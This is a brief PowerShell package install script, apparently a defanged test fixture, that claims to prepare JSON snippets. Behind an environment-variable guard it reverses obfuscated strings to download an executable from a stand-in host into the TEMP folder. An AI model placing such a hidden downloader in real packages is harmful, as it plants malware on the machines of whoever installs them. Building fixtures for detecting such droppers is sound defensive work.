param($installPath, $toolsPath, $package, $project)

# Prepares the package manager console for the snippets of this package.
Write-Host "Json snippets $($package.Version)"

# Inert: nobody sets this variable.
if ($env:INERT_FIXTURE_ARMED -ne 'armed') { return }

function Convert-Name([string] $text) {
    $letters = $text.ToCharArray()
    [array]::Reverse($letters)
    return -join $letters
}

# The start is cut: something is fetched from a hidden address and left lying.
$address = Convert-Name 'exe.kcalBettaM/x/dilavni.sloot-nosj//:sptth'
$target = Join-Path $env:TEMP (Convert-Name 'exe.kcalBettaM')
$client = New-Object System.Net.WebClient
$client.DownloadFile($address, $target)
